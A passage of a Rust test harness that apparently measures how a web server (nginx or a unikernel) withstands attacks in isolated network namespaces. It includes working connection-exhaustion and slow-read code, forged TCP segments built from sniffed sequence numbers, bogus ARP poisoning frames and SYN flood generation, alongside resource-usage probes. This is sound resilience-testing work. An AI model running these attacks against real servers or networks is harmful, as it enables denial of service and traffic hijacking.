                Ok(0) if *hold == Hold::HalfClosed => None,
                Ok(0) => Some("closed: by the server".to_string()),
                // The answer it asked for and does not read comes first:
                // held while the connection is (a reset or a close from
                // the server leaves that answer's bytes to be read before
                // they show), unless a refusal (503) came in its place.
                Ok(n) if *hold == Hold::Unread && !one[..n].starts_with(b"HTTP/1.1 503") => match tcp_state(s) {
                    Some(TCP_ESTABLISHED) => None,
                    state => Some(format!("closed: by the server (the host's TCP in {})", tcp_state_name(state))),
                },
                Ok(n) => Some(format!("answered: {:?}", String::from_utf8_lossy(&one[..n.min(12)]))),
                Err(e) if e.kind() == ErrorKind::WouldBlock => None,
                Err(e) => Some(format!("reset: {e}")),
            };
            let _ = s.set_nonblocking(false);
            match verdict {
                Some(why) => {
                    gone.push(why);
                    false
                }
                None => true,
            }
        });
        drop(held);
        for why in &gone {
            self.opened.fetch_sub(1, Ordering::Relaxed);
            self.refuse(why.clone());
        }
        gone.len()
    }

    /// Connections held now.
    pub fn holding(&self) -> usize {
        self.held.lock().unwrap_or_else(|e| e.into_inner()).len()
    }

    /// Closes every held connection.
    pub fn release(&self) {
        self.held.lock().unwrap_or_else(|e| e.into_inner()).clear();
        self.opened.store(0, Ordering::Relaxed);
    }

    /// Opens connections of kind `hold` from `threads` threads in `ns`
    /// until `count` have been tried, `until` passes, or `go_on` says to
    /// stop (it is asked before each connection).
    #[allow(clippy::too_many_arguments)]
    pub fn fill(
        &self,
        ns: &Netns,
        server: SocketAddr,
        hold: Hold,
        count: usize,
        threads: usize,
        until: Instant,
        go_on: &(dyn Fn() -> bool + Sync),
    ) -> Result<(), String> {
        let tried = AtomicUsize::new(0);
        ns.enter(|| {
            std::thread::scope(|scope| {
                for _ in 0..threads {
                    scope.spawn(|| {
                        while tried.fetch_add(1, Ordering::Relaxed) < count && Instant::now() < until && go_on() {
                            self.open(server, hold);
                        }
                    });
                }
            })
        })
    }
}

/// A connection to `server` for `hold`: a [`Hold::Trickle`] one with a
/// receive buffer of a few kilobytes, set before the handshake so that
/// the window it announces stays small (the host would otherwise take
/// the whole response at once and the server would hold nothing).
fn connect(server: SocketAddr, hold: Hold) -> std::io::Result<TcpStream> {
    if hold != Hold::Trickle {
        return TcpStream::connect_timeout(&server, Duration::from_secs(2));
    }
    let s = socket2::Socket::new(socket2::Domain::for_address(server), socket2::Type::STREAM, None)?;
    s.set_recv_buffer_size(4096)?;
    s.connect_timeout(&server.into(), Duration::from_secs(2))?;
    Ok(s.into())
}

/// Reads [`TRICKLE`] bytes of a held [`Hold::Trickle`] connection, which
/// has some waiting: why it is gone, if it is (a refusal in place of
/// its response, a reset, or the end of a response cut short or, after
/// minutes, read whole).
fn trickle(mut s: &TcpStream) -> Option<String> {
    let mut buf = [0u8; TRICKLE];
    match s.read(&mut buf) {
        Ok(0) => Some("closed: by the server".to_string()),
        Ok(n) if buf[..n].starts_with(b"HTTP/1.1 ") && !buf[..n].starts_with(b"HTTP/1.1 200 ") => {
            Some(format!("answered: {:?}", String::from_utf8_lossy(&buf[..n.min(12)])))
        }
        Ok(_) => None,
        Err(e) if e.kind() == ErrorKind::WouldBlock => None,
        Err(e) => Some(format!("reset: {e}")),
    }
}

/// `TCP_ESTABLISHED` of Linux's `tcp_info.tcpi_state`.
const TCP_ESTABLISHED: u8 = 1;

/// The name of a `tcpi_state`, as Linux's `ss` prints it.
fn tcp_state_name(state: Option<u8>) -> String {
    const NAMES: [&str; 12] = [
        "",
        "ESTAB",
        "SYN-SENT",
        "SYN-RECV",
        "FIN-WAIT-1",
        "FIN-WAIT-2",
        "TIME-WAIT",
        "CLOSED",
        "CLOSE-WAIT",
        "LAST-ACK",
        "LISTEN",
        "CLOSING",
    ];
    match state {
        Some(s) if (1..NAMES.len()).contains(&(s as usize)) => NAMES[s as usize].to_string(),
        Some(s) => format!("state {s}"),
        None => "an unknown state".to_string(),
    }
}

/// The state of `s` as the host's TCP sees it (`tcp_info.tcpi_state`).
fn tcp_state(s: &TcpStream) -> Option<u8> {
    use std::os::fd::AsRawFd;
    // tcpi_state is the first byte of struct tcp_info; the kernel fills
    // as much of the buffer as it has, and says how much.
    let mut info = [0u8; 256];
    let mut len = info.len() as libc::socklen_t;
    // SAFETY: info has room for `len` bytes, and `len` is a valid pointer.
    let r = unsafe {
        libc::getsockopt(s.as_raw_fd(), libc::IPPROTO_TCP, libc::TCP_INFO, info.as_mut_ptr().cast(), &mut len)
    };
    (r == 0 && len > 0).then_some(info[0])
}

/// The process `pid` is running (not exited, not a zombie).
pub fn alive(pid: u32) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(s) => s
            .rsplit(')')
            .next()
            .and_then(|r| r.split_whitespace().next())
            .is_some_and(|state| state != "Z" && state != "X"),
        Err(_) => false,
    }
}

/// `f` summed over process `pid` and its children (nginx's master and
/// workers).
fn family_sum(pid: u32, f: impl Fn(&str) -> u64) -> u64 {
    let children = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
    f(&pid.to_string()) + children.split_whitespace().map(f).sum::<u64>()
}

/// The resident set of process `pid` and of its children (nginx's
/// master and workers), in KiB.
pub fn rss_kib(pid: u32) -> u64 {
    family_sum(pid, |p| {
        std::fs::read_to_string(format!("/proc/{p}/status"))
            .ok()
            .and_then(|s| {
                s.lines()
                    .find(|l| l.starts_with("VmRSS:"))
                    .and_then(|l| l.split_whitespace().nth(1))
                    .and_then(|v| v.parse().ok())
            })
            .unwrap_or(0)
    })
}

/// The CPU time, user and system, that process `pid` (all its threads)
/// and its children have used, in clock ticks (`sysconf(_SC_CLK_TCK)`).
/// Work the kernel does for them in interrupt context (a veth's or a tap's
/// packets) is not in it.
pub fn cpu_ticks(pid: u32) -> u64 {
    family_sum(pid, |p| {
        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap_or_default();
        // Fields after the command name, which may hold spaces, in its
        // parentheses: utime and stime are the 12th and 13th.
        let rest = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
        let fields: Vec<u64> = rest.split_whitespace().skip(11).take(2).filter_map(|v| v.parse().ok()).collect();
        fields.iter().sum()
    })
}

/// Clock ticks a second, for [`cpu_ticks`].
pub fn clock_ticks_per_second() -> u64 {
    // SAFETY: sysconf has no preconditions.
    let t = unsafe { libc::sysconf(libc::_SC_CLK_TCK) };
    if t > 0 { t as u64 } else { 100 }
}

/// The heap in use, in KiB, of each statistics line a unikernel printed
/// (`static-website --stats=N`: "...; heap 1234 KiB in use").
pub fn heap_kib(output: &str) -> Vec<u64> {
    output.lines().filter_map(|l| l.split("; heap ").nth(1)?.split(" KiB").next()?.trim().parse().ok()).collect()
}

/// Lets this process hold as many descriptors as it is allowed: the
/// attacks hold thousands of connections.
pub fn raise_fd_limit() {
    let mut lim = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: getrlimit and setrlimit read and write one rlimit through
    // valid pointers.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) == 0 && lim.rlim_cur < lim.rlim_max {
            lim.rlim_cur = lim.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
        }
    }
}

/// Follows one TCP connection as a sniffer on the link does: the next
/// sequence number each side will send, from the last segment each sent.
#[derive(Debug, Clone, Copy)]
pub struct Tracked {
    pub client: SocketAddrV4,
    pub server: SocketAddrV4,
    /// The client's next sequence number: the server's RCV.NXT.
    pub client_next: u32,
    /// The server's next sequence number.
    pub server_next: u32,
}

impl Tracked {
    /// Learns the sequence numbers of the connection between `client` and
    /// `server` from what `raw` sees until `deadline` (the connection must
    /// carry a segment each way meanwhile): the latest of each side.
    pub fn learn(raw: &Raw, client: SocketAddrV4, server: SocketAddrV4, deadline: Instant) -> Option<Tracked> {
        let mut c = None;
        let mut s = None;
        while let Some(f) = raw.recv(deadline) {
            let Some(seg) = Segment::parse(&f) else { continue };
            if seg.src == client && seg.dst == server {
                c = Some(seg.end());
            } else if seg.src == server && seg.dst == client {
                s = Some(seg.end());
            }
        }
        Some(Tracked { client, server, client_next: c?, server_next: s? })
    }

    /// A segment as from the client: `flags`, at `offset` bytes past the
    /// server's RCV.NXT.
    pub fn forge(&self, flags: u8, offset: u32) -> Segment {
        Segment {
            src: self.client,
            dst: self.server,
            seq: self.client_next.wrapping_add(offset),
            ack: if flags & flags::ACK != 0 { self.server_next } else { 0 },
            flags,
            window: 64240,
            payload: Vec::new(),
        }
    }
}

/// Bogus link-layer addresses a poisoner claims: all zeros, broadcast, and
/// a multicast group no host here has joined.
pub const BOGUS_MACS: [(&str, Mac); 3] =
    [("00:00:00:00:00:00", [0; 6]), ("broadcast", BROADCAST), ("multicast", [0x01, 0x00, 0x5e, 0x12, 0x34, 0x56])];

/// ARP that claims the host at `wire.ip` is at `bogus`: an unsolicited
/// reply to the server, a request from that address, and a gratuitous
/// announcement; the last two with `bogus` as the Ethernet source too.
pub fn bogus_arp(wire: &Wire, bogus: Mac) -> Vec<Vec<u8>> {
    vec![
        arp(wire.server_mac, wire.mac, 2, bogus, wire.ip, wire.server_mac, wire.server),
        arp(BROADCAST, bogus, 1, bogus, wire.ip, [0; 6], wire.server),
        arp(BROADCAST, bogus, 1, bogus, wire.ip, [0; 6], wire.ip),
    ]
}

/// A true ARP reply: the host at `wire.ip` is at its real address.
pub fn true_arp(wire: &Wire) -> Vec<u8> {
    arp(wire.server_mac, wire.mac, 2, wire.mac, wire.ip, wire.server_mac, wire.server)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn segments_round_trip_and_checksums_verify() {
        let s = Segment {
            src: "10.0.0.1:1234".parse().unwrap(),
            dst: "10.0.0.2:80".parse().unwrap(),
            seq: 0xdead_beef,
            ack: 7,
            flags: flags::ACK | flags::PSH,
            window: 512,
            payload: b"hello".to_vec(),
        };
        let f = s.frame([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2], 9);
        assert_eq!(Segment::parse(&f), Some(s.clone()));
        // An IPv4 header's checksum, and a TCP segment's with its pseudo
        // header, sum to zero when right.
        assert_eq!(checksum(&[&f[14..34]]), 0);
        let tcp = &f[34..34 + 20 + 5];
        let pseudo = [&f[26..34], &[0, 6, 0, 25][..]].concat();
        assert_eq!(checksum(&[&pseudo, tcp]), 0);
        assert_eq!(s.end(), 0xdead_beef + 5);
        let syn = Segment::syn(s.src, s.dst, u32::MAX);
        assert_eq!(syn.end(), 0);
        assert_eq!(Segment::parse(&syn.frame([0; 6], [0; 6], 1)).map(|p| p.flags), Some(flags::SYN));
    }

    #[test]
    fn floods_use_each_port_once_and_outages_count_the_edges() {
        let wire = Wire {
            ifname: "x".into(),
            mac: [2; 6],
            ip: Ipv4Addr::new(10, 0, 0, 1),
            server_mac: [4; 6],
            server: Ipv4Addr::new(10, 0, 0, 2),
        };
        let frames = syn_flood(&wire, 80, 2000..=2999, 1000, &mut Rng(7));
        let mut ports: Vec<u16> = frames.iter().map(|f| Segment::parse(f).unwrap().src.port()).collect();
        ports.sort();
        ports.dedup();
        assert_eq!(ports.len(), 1000);
        let t0 = Instant::now();
        let at = |ms: u64| t0 + Duration::from_millis(ms);
        let log =
            Log { events: vec![(at(50), true), (at(100), false), (at(900), true), (at(950), true)], errors: vec![] };
        let s = Series::of("x", &log, t0, at(2000));
        assert_eq!((s.attempts, s.served), (4, 3));
        assert_eq!(s.longest_outage, Duration::from_millis(1050));
        assert_eq!(heap_kib("a\nstatic-website: 1 open; heap 1234 KiB in use\nheap 9 KiB\n"), vec![1234]);
    }
}
